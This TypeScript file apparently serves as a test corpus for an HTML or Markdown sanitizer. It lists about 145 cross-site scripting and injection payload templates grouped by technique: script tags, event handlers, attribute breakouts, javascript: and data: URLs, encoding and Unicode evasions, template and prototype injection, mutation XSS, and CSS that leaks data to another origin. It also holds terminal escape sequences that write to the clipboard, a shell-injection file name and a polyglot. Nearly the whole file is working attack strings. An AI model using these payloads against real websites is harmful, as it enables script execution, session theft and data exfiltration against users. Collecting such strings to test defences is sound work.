/** What hostile text tries in a page. Each names its mark in what it would do, so that whatever runs says which it was. */

/** A statement that says it ran, an address of another origin that hears it, and the bare mark. */
export interface Bait {
  run: string;
  away: string;
  mark: string;
}
type Payload = (bait: Bait) => string;

const ESC = '\u001b';
const BEL = '\u0007';

const SCRIPTS: Payload[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<SCRIPT>${run}</SCRIPT>`,
  ({ run }) => `<script type="module">${run}</script>`,
  ({ away }) => `<script src="${away}"></script>`,
  ({ away }) => `<script src=${away.replace('http:', '')}></script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<script\u000c>${run}</script\u000c>`,
  ({ run }) => `<script/x>${run}</script>`,
  ({ away }) => `<script>import('${away}')</script>`,
  ({ run }) => `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
];

const HANDLERS: Payload[] = [
  ({ run }) => `<img src=x onerror="${run}">`,
  ({ run }) => `<IMG SRC=x ONERROR=${run}>`,
  ({ run }) => `<img src=x onerror\u000b="${run}">`,
  ({ run }) => `<img/src=x/onerror=${run}>`,
  ({ run }) => `<body onload="${run}">`,
  ({ run }) => `<input autofocus onfocus="${run}">`,
  ({ run }) => `<details open ontoggle="${run}">x</details>`,
  ({ run }) => `<video><source onerror="${run}"></video>`,
  ({ run }) => `<audio src=x onerror="${run}"></audio>`,
  ({ run }) => `<marquee onstart="${run}">x</marquee>`,
  ({ run }) => `<div onpointerover="${run}" style="position:fixed;inset:0">x</div>`,
  ({ run }) => `<select autofocus onfocus="${run}"></select>`,
  ({ run }) => `<form><button formaction="javascript:${run}" autofocus>x</button></form>`,
  ({ run }) => `<div onanimationstart="${run}" style="animation:grow 1s">x</div>`,
  ({ run }) => `<p contenteditable onbeforeinput="${run}">x</p>`,
  ({ run }) => `<custom-thing onfocusin="${run}" tabindex=1 autofocus>x</custom-thing>`,
];

const OUT_OF_PLACE: Payload[] = [
  ({ run }) => `" onmouseover="${run}" x="`,
  ({ run }) => `' onmouseover='${run.replaceAll("'", '`')}' x='`,
  ({ run }) => `"><img src=x onerror="${run}">`,
  ({ run }) => `'><svg onload="${run}">`,
  ({ run }) => `</title><script>${run}</script>`,
  ({ run }) => `</textarea><script>${run}</script>`,
  ({ run }) => `</style><script>${run}</script>`,
  ({ run }) => `</script><script>${run}</script>`,
  ({ run }) => `--><script>${run}</script><!--`,
  ({ run }) => `]]><script>${run}</script>`,
  ({ run }) => `"};${run};//`,
  ({ run }) => `';${run};var x='`,
  ({ run }) => `\\";${run};//`,
  ({ mark }) => `<b data-evil="${mark}">bold</b>`,
];

const SVG_AND_MATH: Payload[] = [
  ({ run }) => `<svg onload="${run}"></svg>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  ({ run }) => `<svg><set attributeName=onmouseover to="${run}"></svg>`,
  ({ run }) => `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
  ({ away }) => `<svg><image href="${away}"/></svg>`,
  ({ away }) => `<svg><use href="${away}#a"/></svg>`,
  ({ run }) => `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`,
  ({ run }) => `<math><a xlink:href="javascript:${run}">x</a></math>`,
  ({ run }) => `<math href="javascript:${run}">x</math>`,
  ({ run }) => `<svg><animate attributeName=href values="javascript:${run}"/><a id=a><text>x</text></a></svg>`,
];

const ADDRESSES: Payload[] = [
  ({ run }) => `javascript:${run}`,
  ({ run }) => `JaVaScRiPt:${run}`,
  ({ run }) => `java\tscript:${run}`,
  ({ run }) => `\u0001javascript:${run}`,
  ({ run }) => `javascript://example.org/%0a${run}`,
  ({ run }) => `javascript:void(${run})//http://example.org/`,
  ({ run }) => `vbscript:${run}`,
  ({ run }) => `data:text/html,<script>${run}</script>`,
  ({ run }) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}#${run}`,
  ({ run }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  ({ run }) => `view-source:javascript:${run}`,
  ({ away }) => `blob:${away}`,
  ({ away }) => away.replace('http:', ''),
  ({ away }) => away.replace('http:', '\\'),
  ({ run }) => `<a href="javascript:${run}" autofocus>x</a>`,
  ({ run }) => `<a href="&#106;avascript:${run}">x</a>`,
];

const MARKDOWN: Payload[] = [
  ({ run }) => `[link](javascript:${run})`,
  ({ run }) => `[link](JAVASCRIPT:${run})`,
  ({ run }) => `[link](<javascript:${run}>)`,
  ({ run }) => `[link](&#x6A;avascript:${run})`,
  ({ run }) => `[link](java%0ascript:${run} "x")`,
  ({ run, mark }) => `[${mark}]\n\n[${mark}]: javascript:${run}`,
  ({ run }) => `<javascript:${run}>`,
  ({ run }) => `[link](data:text/html,<script>${run}</script>)`,
  ({ away }) => `![picture](${away})`,
  ({ away, run }) => `![picture](x "onerror=${run}")![x](${away})`,
  ({ run }) => `[link](http://example.org/"onmouseover="${run})`,
  ({ run }) => `**<img src=x onerror="${run}">**`,
  ({ run }) => `| a |\n|---|\n| <script>${run}</script> |`,
  ({ run }) => `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
  ({ run }) => `\`</code><script>${run}</script>\``,
  ({ run }) => `<!-- --!><script>${run}</script> -->`,
];

const ENCODED: Payload[] = [
  ({ run }) => `&lt;script&gt;${run}&lt;/script&gt;`,
  ({ run }) => `&#60;script&#62;${run}&#60;/script&#62;`,
  ({ run }) => `&#x3c;img src=x onerror=${run}&#x3e;`,
  ({ run }) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  ({ run }) => `%3Cscript%3E${run}%3C/script%3E`,
  ({ run }) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  ({ run }) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  ({ run }) => `<img src=x onerror=&#${run.charCodeAt(0)};${run.slice(1)}>`,
  ({ run }) => `<a href="javas&Tab;cript&colon;${run}">x</a>`,
];

const TEMPLATES: Payload[] = [
  ({ run }) => `\${${run}}`,
  ({ run }) => `{{constructor.constructor("${run}")()}}`,
  ({ run }) => `{{${run}}}`,
  ({ run }) => `<%= ${run} %>`,
  ({ run }) => `#{${run}}`,
  ({ run }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  ({ run }) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  ({ mark }) => `<form id=body name=${mark}><input name=innerHTML id=__sentinel></form>`,
];

const UNICODE: Payload[] = [
  ({ run }) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  ({ run }) => `\u202e<script>${run}</script>\u202c`,
  ({ run }) => `\u2066<img src=x onerror=${run}>\u2069`,
  ({ run }) => `<scr\u200bipt>${run}</scr\u200bipt>`,
  ({ run }) => `<\u017fcript>${run}</\u017fcript>`,
  ({ run }) => `<\u0130mg src=x onerror=${run}>`,
  ({ run }) => `\u2028${run}\u2029`,
  ({ run }) => `\ufeff<script>${run}</script>`,
  ({ mark }) => `${mark}-gpj.\u202eexe`,
  ({ run }) => `<img src=x\u00a0onerror=${run}>`,
];

const STYLES: Payload[] = [
  ({ away }) => `<style>@import url(${away});</style>`,
  ({ away }) => `<style>*{background:url(${away})}</style>`,
  ({ away }) => `<link rel=stylesheet href="${away}">`,
  ({ away }) => `<div style="background:url(${away})">x</div>`,
  ({ run }) => `<div style="width:expression(${run})">x</div>`,
  ({ run }) => `<style>*{-moz-binding:url("javascript:${run}")}</style>`,
  ({ away }) => `red;background:url(${away})`,
  ({ away }) => `<style>input[value^="a"]{background:url(${away})}</style>`,
];

const FRAMES: Payload[] = [
  ({ run }) => `<iframe src="javascript:${run}"></iframe>`,
  ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  ({ away }) => `<iframe src="${away}"></iframe>`,
  ({ run }) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  ({ away }) => `<object data="${away}"></object>`,
  ({ run }) => `<embed src="javascript:${run}">`,
  ({ away }) => `<meta http-equiv="refresh" content="0;url=${away}">`,
  ({ away }) => `<base href="${away}/">`,
  ({ away }) => `<link rel=prefetch href="${away}">`,
  ({ away }) => `<form action="${away}"><button autofocus>x</button></form>`,
  ({ run }) => `<portal src="javascript:${run}"></portal>`,
  ({ run }) => `<frameset onload="${run}"></frameset>`,
];

const MUTATIONS: Payload[] = [
  ({ run }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  ({ run }) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  ({ run }) => `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  ({ run }) => `<template><img src=x onerror="${run}"></template>`,
  ({ run }) => `<xmp><p title="</xmp><svg/onload=${run}>">`,
  ({ run }) => `<listing>&lt;img onerror="${run}" src=x&gt;</listing>`,
  ({ run }) => `<img alt="\`\`onerror=${run}" src=x>`,
];

const TERMINAL: Payload[] = [
  ({ run }) => `${ESC}]8;;javascript:${run}${BEL}link${ESC}]8;;${BEL}`,
  ({ away }) => `${ESC}]8;;${away}${ESC}\\link${ESC}]8;;${ESC}\\`,
  ({ run }) => `${ESC}[31m<script>${run}</script>${ESC}[0m`,
  ({ run }) => `${ESC}]0;</title><script>${run}</script>${BEL}`,
  ({ run }) => `${ESC}[2J${ESC}[1;1H<img src=x onerror=${run}>`,
  ({ mark }) => `${ESC}]52;c;${Buffer.from(mark).toString('base64')}${BEL} ${mark}`,
  ({ run }) => `\r<img src=x onerror=${run}>\b\b`,
  ({ run }) => `${ESC}P$q<svg onload=${run}>${ESC}\\`,
];

const NAMES: Payload[] = [
  ({ run }) => `<img src=x onerror=${run}>.py`,
  ({ run }) => `"><script>${run}<script>.txt`,
  ({ run }) => `src/javascript:${run}`,
  ({ run }) => `../../../<svg onload=${run}>`,
  ({ mark }) => `__proto__/constructor/${mark}`,
  ({ mark }) => `index.html#<x onclick=${mark}>`,
  ({ mark }) => `-rf ${mark}; $(id) | \`id\``,
  ({ run }) => `a.svg?"onload="${run}`,
];

const DIALOGS: Payload[] = [
  ({ mark }) => `<script>alert('${mark}')</script>`,
  ({ mark }) => `<img src=x onerror="confirm('${mark}')">`,
  ({ mark }) => `<svg onload="print(prompt('${mark}'))">`,
  ({ run }) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */${run})//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
];

/** By what they try; the order numbers them. */
export const CORPUS: Readonly<Record<string, readonly Payload[]>> = {
  scripts: SCRIPTS,
  handlers: HANDLERS,
  'out of their place': OUT_OF_PLACE,
  'SVG and MathML': SVG_AND_MATH,
  addresses: ADDRESSES,
  encoded: ENCODED,
  templates: TEMPLATES,
  Unicode: UNICODE,
  styles: STYLES,
  frames: FRAMES,
  mutations: MUTATIONS,
  terminal: TERMINAL,
  names: NAMES,
  dialogs: DIALOGS,
  Markdown: MARKDOWN,
};

export const PAYLOADS: readonly Payload[] = Object.values(CORPUS).flat();
